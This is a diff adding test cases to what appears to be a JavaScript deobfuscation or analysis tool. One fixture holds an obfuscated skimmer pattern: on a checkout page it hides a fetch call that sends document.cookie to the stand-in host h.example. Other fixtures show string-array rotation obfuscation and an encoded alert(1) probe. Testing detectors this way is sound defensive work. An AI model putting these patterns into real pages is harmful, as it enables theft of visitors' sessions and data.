@@ -92,6 +92,24 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['atob("YWxlcnQoMSk=")'],
   },
   {
+    // a gate on the page's address cannot be decided, but the code behind it runs as a whole
+    name: 'the arm behind a gate the simulation cannot decide is resolved as if it ran',
+    source: `if (location.pathname.indexOf('checkout') > -1) {
+      var n = ['a', 'b', 'c', 'fetch']
+      ;(function (t) { for (; --t;) n.push(n.shift()) })(467)
+      var c = function (e) { return n[e - 156] }
+      if (document.forms.length) { window[c(157)]('https://h.example/x?' + document.cookie) }
+    }`,
+    has: ['window.fetch('],
+  },
+  {
+    name: 'a page object checked with typeof is there, as it is on every page',
+    source: `!function(){"use strict";if("undefined"!=typeof window&&"undefined"!=typeof document){
+      var e,t,n=["a","b","c","fetch"];e=n,t=466,function(t){for(;--t;)e.push(e.shift())}(++t);
+      var c=function(e,t){return n[e-=156]};var o=c(157)+c(158)}}();`,
+    has: ['var o="fetcha"'],
+  },
+  {
     name: 'constant branches keep only the live arm',
     source: `function f(){ return 'k' } if (f() === 'k') { send(1) } else { decoy() }`,
     has: ['send(1)'],
